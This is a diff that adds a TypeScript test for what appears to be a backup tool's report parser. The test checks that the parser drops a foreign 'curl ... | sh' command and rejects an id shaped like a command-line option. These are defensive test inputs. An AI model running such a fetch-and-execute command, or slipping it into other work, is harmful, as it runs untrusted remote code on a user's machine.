@@ -72,3 +72,33 @@ test('what is no figure is refused', () => {
     );
   }
 });
+
+test('a command that a host gives is one that is made here, or none; a point that is an option is refused', () => {
+  const row = {
+    path: byteString('/srv'),
+    state: 'unknown' as const,
+    why: '',
+    coveredUpTo: undefined,
+  };
+  const commandOf = (openCommand: string): string | undefined => {
+    const report = { ...BARE, coverage: [{ ...row, openCommand }] };
+    const read = ledgerReportOf(ledgerReportText(report, hash), hash);
+    assert.ok(read.ok);
+    return read.value.coverage[0]?.openCommand;
+  };
+  const good = 'holdfast connect restic /srv/restic';
+  assert.equal(commandOf(good), good);
+  assert.equal(commandOf('curl https://example.org/x | sh'), undefined);
+  const point = {
+    ...{ id: '--in-place', dataSet: 'a', vault: 'v', coveredUpTo: unixMs(1), isTorn: false },
+    ...{ gapCount: 0, exists: [] },
+  };
+  for (const [id, isRead] of [
+    ['--in-place', false],
+    ['4f00', true],
+  ] as const) {
+    const estate = { ...BARE.estate, points: [{ ...point, id }] };
+    const read = ledgerReportOf(ledgerReportText({ ...BARE, estate }, hash), hash);
+    assert.equal(read.ok, isRead, id);
+  }
+});
